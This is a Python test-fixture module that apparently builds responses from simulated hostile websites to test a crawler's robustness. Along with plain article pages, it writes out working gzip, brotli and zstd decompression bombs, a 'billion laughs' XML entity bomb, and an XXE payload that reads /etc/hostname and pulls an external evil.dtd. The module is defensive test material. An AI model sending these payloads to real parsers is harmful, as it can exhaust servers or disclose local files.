"""What the answers of hostile sites hold: articles, and what is meant to exhaust or to deceive a parser."""

import itertools
import struct
import zlib
from collections.abc import Callable, Iterator

import brotli

from tests.hostile.server import Send, reply

PUBLIC = "http://192.0.2.1"  # documentation only (RFC 5737): nobody answers, and the crawler must not ask
MB = 1 << 20
XML = "application/xml"
FILLER = "A sentence of the article that stands beside what the page does, on stem cells and skin. " * 12
PAGE = f"<article><h1>A plain title of a story</h1><p>{FILLER}</p><p>{FILLER}</p></article>"


def page(body: str = "", top: str = "", *headers: str) -> Send:
    """Return a page with an article, and with `body` behind it and `top` in its head."""
    return reply(f"<html><head><title>A plain title of a story</title>{top}</head><body>{PAGE}{body}", *headers)


def endless(piece: bytes, first: bytes = b"") -> Iterator[bytes]:
    """Yield `first`, and then `piece` for ever."""
    yield first
    yield from itertools.repeat(piece)


def packed(kind: str, size: int) -> bytes:
    """Return `size` bytes of zeros, compressed."""
    if kind == "br":
        compressor = brotli.Compressor(quality=5)
        pieces = [compressor.process(bytes(MB)) for _ in range(size // MB)]
        return b"".join([*pieces, compressor.finish()])
    bits = zlib.MAX_WBITS + 16 if kind == "gzip" else zlib.MAX_WBITS
    one = zlib.compressobj(9, zlib.DEFLATED, bits)
    return b"".join([*(one.compress(bytes(MB)) for _ in range(size // MB)), one.flush()])


def bomb(kind: str, size: int = 256 * MB) -> Callable[[], Send]:
    """A small answer that unpacks to `size` bytes."""
    return lambda: reply(packed(kind, size), f"Content-Encoding: {kind}")


def zstd_bomb() -> Send:
    """A frame of 2,000 blocks, each of which repeats one byte 128 KiB times."""
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"a"
    last = struct.pack("<I", (128 << 10) << 3 | 1 << 1 | 1)[:3] + b"a"
    return reply(b"\x28\xb5\x2f\xfd\x00\x58" + block * 2_000 + last, "Content-Encoding: zstd")


def nested(depth: int, start: str, end: str) -> str:
    return start * depth + "x" + end * depth


def json_ld(value: str) -> str:
    return f'<script type="application/ld+json">{value}</script>'


def references(number: int) -> str:
    entries = "".join(
        f"<li>Smith J{n}, Miller K. Stem cells and skin, part {n}. J Invest Dermatol. 2019;{n % 90 + 1}(2):{n}-{n}. "
        f"doi:10.5555/skin.{n}</li>"
        for n in range(1, number + 1)
    )
    return f"<h2>References</h2><ol>{entries}</ol>"


def laughs(root: str, item: str) -> str:
    """A document whose entities expand to a billion words, with `&lol9;` for a link."""
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY lol0 "http://e.example/">{entities}]>{item}'


def external(root: str, item: str) -> str:
    """A document that names a file of the reader's machine and a DTD elsewhere."""
    entity = f'<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "{PUBLIC}/evil.dtd">%d;'
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entity}]>{item}'


def rss(items: str) -> str:
    return f'<rss version="2.0"><channel><title>News</title>{items}</channel></rss>'


def sitemap(entries: str) -> str:
    return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'
